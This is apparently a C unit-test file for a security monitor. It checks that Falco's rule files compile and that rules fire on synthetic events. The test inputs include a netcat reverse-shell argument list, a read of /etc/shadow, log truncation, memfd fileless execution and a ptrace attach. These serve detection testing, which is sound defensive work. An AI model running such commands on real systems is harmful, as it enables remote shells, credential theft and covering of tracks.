// SPDX-License-Identifier: Apache-2.0
/*
 * Compatibility benchmark: Falco's official rule files load and compile
 * with no error, alone and in Falco's usual combinations. The files live
 * outside the repository (../shared/anchors/falco-rules); without them the
 * test is skipped (exit 77).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <fcntl.h>

#include "container/container.h"
#include "helpers.h"
#include "state/fd_table.h"
#include "vigil/syscalls.h"

static const char *dir = FALCO_RULES_DIR;

static int load_set(const char *const *files, size_t n)
{
	struct vg_ruleset *rs = vg_ruleset_new(NULL);
	char path[1024];
	size_t enabled = 0;
	struct vg_expansion x;
	int errors;

	assert_non_null(rs);
	for (size_t i = 0; i < n; i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, files[i]);
		vg_ruleset_load_path(rs, path);
	}
	vg_ruleset_compile(rs);
	errors = (int)vg_ruleset_error_count(rs);
	for (size_t i = 0; i < vg_ruleset_rule_count(rs); i++)
		enabled += vg_rule_enabled(vg_ruleset_rule(rs, i));
	printf("[ falco   ] ");
	for (size_t i = 0; i < n; i++)
		printf("%s%s", i ? " + " : "", files[i]);
	printf(": %zu rules (%zu enabled), %zu skipped, %zu macros, %zu lists, %d errors, "
	       "%zu warnings\n",
	       vg_ruleset_rule_count(rs), enabled, vg_ruleset_skipped(rs),
	       vg_ruleset_macro_count(rs), vg_ruleset_list_count(rs), errors,
	       vg_ruleset_warning_count(rs));
	if (errors)
		th_dump(rs);
	vg_ruleset_expansion(rs, &x);
	printf("[ falco   ] expanded: largest %llu nodes, all %llu, height %u, nesting %u, "
	       "list items copied %llu\n",
	       (unsigned long long)x.largest, (unsigned long long)x.total, x.height, x.nesting,
	       (unsigned long long)x.list_items);
	/* the expansion bounds hold Falco's rules with a wide margin (docs/rules.md, Limits) */
	assert_true(x.largest * 50 < VG_MAX_EXPANDED_NODES);
	assert_true(x.total * 50 < VG_MAX_RULESET_NODES);
	assert_true(x.height * 50 < VG_MAX_EXPANDED_HEIGHT);
	assert_true(x.nesting * 8 < VG_MAX_MACRO_NESTING);
	assert_true(x.list_items * 50 < VG_MAX_RULESET_ITEMS);
	vg_ruleset_free(rs);
	return errors;
}

#define SET(...)  ((const char *const[]){__VA_ARGS__})
#define NSET(...) (sizeof(SET(__VA_ARGS__)) / sizeof(const char *))
#define LOAD(...) load_set(SET(__VA_ARGS__), NSET(__VA_ARGS__))

static void test_each_file_alone(void **state)
{
	(void)state;
	assert_int_equal(LOAD("falco_rules.yaml"), 0);
	assert_int_equal(LOAD("falco-incubating_rules.yaml"), 0);
	assert_int_equal(LOAD("falco-sandbox_rules.yaml"), 0);
	assert_int_equal(LOAD("falco-deprecated_rules.yaml"), 0);
	assert_int_equal(LOAD("application_rules.yaml"), 0);
}

static void test_usual_combinations(void **state)
{
	(void)state;
	assert_int_equal(LOAD("falco_rules.yaml", "falco-incubating_rules.yaml"), 0);
	assert_int_equal(
		LOAD("falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"),
		0);
	assert_int_equal(LOAD("falco_rules.yaml", "falco-incubating_rules.yaml",
			      "falco-sandbox_rules.yaml", "falco-deprecated_rules.yaml",
			      "application_rules.yaml"),
			 0);
}

static void test_counts_match_the_files(void **state)
{
	struct vg_ruleset *rs = vg_ruleset_new(NULL);
	char path[1024];

	(void)state;
	snprintf(path, sizeof(path), "%s/falco_rules.yaml", dir);
	vg_ruleset_load_path(rs, path);
	vg_ruleset_compile(rs);
	assert_int_equal(vg_ruleset_rule_count(rs), 25);
	assert_int_equal(vg_ruleset_macro_count(rs), 87);
	assert_int_equal(vg_ruleset_list_count(rs), 49);
	vg_ruleset_free(rs);
}

/* ---- Falco's own rules against synthetic events ---- */

static struct vg_ruleset *falco_rs;

static int load_falco(void **state)
{
	struct vg_ruleset_opts o = {.match_all = true,
				    .passwd_path = TEST_DATA_DIR "/passwd",
				    .group_path = TEST_DATA_DIR "/group"};
	char path[1024];

	(void)state;
	falco_rs = vg_ruleset_new(&o);
	snprintf(path, sizeof(path), "%s/falco_rules.yaml", dir);
	vg_ruleset_load_path(falco_rs, path);
	return vg_ruleset_compile(falco_rs) == 0 ? 0 : -1;
}

static int free_falco(void **state)
{
	(void)state;
	vg_ruleset_free(falco_rs);
	return 0;
}

struct matched {
	char names[1024];
	const struct vg_rule *rules[64];
	size_t n;
};

static bool collect(const struct vg_rule *r, const struct vg_eval_ctx *ctx, void *arg)
{
	struct matched *m = arg;

	(void)ctx;
	strncat(m->names, vg_rule_name(r), 1000 - strlen(m->names));
	strncat(m->names, ";", 1000 - strlen(m->names));
	if (m->n < 64)
		m->rules[m->n++] = r;
	return true;
}

static bool was_matched(const struct matched *m, const struct vg_rule *r)
{
	for (size_t i = 0; i < m->n; i++)
		if (m->rules[i] == r)
			return true;
	return false;
}

/*
 * The rules (of falco_rules.yaml) the event matches, ";"-separated. Every
 * rule's generic program must say the same as the event type's programs
 * that found them.
 */
static const char *matches(struct th_world *w)
{
	static struct matched m;

	memset(&m, 0, sizeof(m));
	vg_ruleset_eval(falco_rs, &w->ctx, collect, &m);
	for (size_t i = 0; i < vg_ruleset_rule_count(falco_rs); i++) {
		const struct vg_rule *r = vg_ruleset_rule(falco_rs, i);

		if (vg_rule_enabled(r) && vg_rule_eval(falco_rs, r, &w->ctx) != was_matched(&m, r))
			fail_msg("%s: the generic program and the event type's disagree",
				 vg_rule_name(r));
	}
	return m.names;
}

/* The host "container", as vg_container_host() gives it (not linked here). */
static const struct vg_container *vg_container_host_for_tests(void)
{
	static const struct vg_container host = {.id = "host",
						 .full_id = (char *)"host",
						 .name = (char *)"host",
						 .type = VG_CT_HOST,
						 .metadata_found = true};

	return &host;
}

static struct vg_container in_container = {.id = "0123456789ab",
					   .full_id = (char *)"0123456789abcdef",
					   .name = (char *)"web",
					   .type = VG_CT_DOCKER,
					   .image_repository = (char *)"docker.io/library/nginx",
					   .metadata_found = true};

static void test_terminal_shell_in_container(void **state)
{
	static struct th_world w;
	static const char args[] = "bash";

	(void)state;
	th_world_init(&w, VG_EV_EXEC);
	strcpy(w.procs[3].comm, "bash");
	th_set_args(&w, args, sizeof(args));
	strcpy(w.procs[2].comm, "containerd-shim");
	w.ctx.container = &in_container;
	assert_non_null(strstr(matches(&w), "Terminal shell in container;"));
	/* the same on the host, or without a terminal, does not match */
	w.ctx.container = vg_container_host_for_tests();
	assert_null(strstr(matches(&w), "Terminal shell in container;"));
	w.ctx.container = &in_container;
	w.procs[3].tty = 0;
	assert_null(strstr(matches(&w), "Terminal shell in container;"));
}

static void test_netcat_in_container(void **state)
{
	static struct th_world w;
	static const char args[] = "nc\0-e\0/bin/sh\0"
				   "10.0.0.1\0"
				   "4444";

	(void)state;
	th_world_init(&w, VG_EV_EXEC);
	strcpy(w.procs[3].comm, "nc");
	th_set_args(&w, args, sizeof(args));
	w.ctx.container = &in_container;
	assert_non_null(strstr(matches(&w), "Netcat Remote Code Execution in Container;"));
}

static void test_fileless_execution(void **state)
{
	static struct th_world w;

	(void)state;
	th_world_init(&w, VG_EV_EXEC);
	w.procs[3].exe = (char *)"/memfd:payload (deleted)";
	assert_non_null(strstr(matches(&w), "Fileless execution via memfd_create;"));
}

static void test_sensitive_file_and_log_clearing(void **state)
{
	static struct th_world w;
	static struct vg_syscall_body sc;
	static struct vg_fd fd;

	(void)state;
	th_world_init(&w, VG_EV_SYSCALL);
	memset(w.ev.var, 0, sizeof(w.ev.var));
	sc.id = VG_SC_openat;
	sc.args[2] = O_RDONLY;
	w.ev.sc = &sc;
	w.hdr.retval = 3;
	fd.num = 3;
	fd.type = VG_FDT_FILE;
	fd.name = (char *)"/etc/shadow";
	fd.open_flags = O_RDONLY;
	w.st.fd = &fd;
	w.st.path_abs = fd.name;
	assert_non_null(strstr(matches(&w), "Read sensitive file untrusted;"));
	/* truncating a log file */
	sc.args[2] = fd.open_flags = O_WRONLY | O_TRUNC;
	fd.name = (char *)"/var/log/syslog";
	w.st.path_abs = fd.name;
	assert_non_null(strstr(matches(&w), "Clear Log Activities;"));
	assert_null(strstr(matches(&w), "Read sensitive file untrusted;"));
}

static void test_ptrace_attach(void **state)
{
	static struct th_world w;
	static struct vg_syscall_body sc;

	(void)state;
	th_world_init(&w, VG_EV_SYSCALL);
	memset(w.ev.var, 0, sizeof(w.ev.var));
	sc.id = VG_SC_ptrace;
	sc.args[0] = 16; /* PTRACE_ATTACH */
	w.ev.sc = &sc;
	assert_non_null(strstr(matches(&w), "PTRACE attached to process;"));
	sc.args[0] = 1; /* PTRACE_PEEKTEXT */
	assert_null(strstr(matches(&w), "PTRACE attached to process;"));
}

static void test_benign_exec(void **state)
{
	static struct th_world w;
	static const char args[] = "ls\0-l";

	(void)state;
	th_world_init(&w, VG_EV_EXEC);
	strcpy(w.procs[3].comm, "ls");
	w.procs[3].exe = (char *)"/usr/bin/ls";
	th_set_args(&w, args, sizeof(args));
	assert_string_equal(matches(&w), "");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_each_file_alone),
		cmocka_unit_test(test_usual_combinations),
		cmocka_unit_test(test_counts_match_the_files),
	};
	const struct CMUnitTest semantics[] = {
		cmocka_unit_test(test_terminal_shell_in_container),
		cmocka_unit_test(test_netcat_in_container),
		cmocka_unit_test(test_fileless_execution),
		cmocka_unit_test(test_sensitive_file_and_log_clearing),
		cmocka_unit_test(test_ptrace_attach),
		cmocka_unit_test(test_benign_exec),
	};
	int failed;
	char path[1024];

	snprintf(path, sizeof(path), "%s/falco_rules.yaml", dir);
	if (access(path, R_OK) != 0) {
		printf("SKIP: Falco rule files not found in %s\n", dir);
		return 77;
	}
	failed = cmocka_run_group_tests(tests, NULL, NULL);
	return failed + cmocka_run_group_tests(semantics, load_falco, free_falco);
}
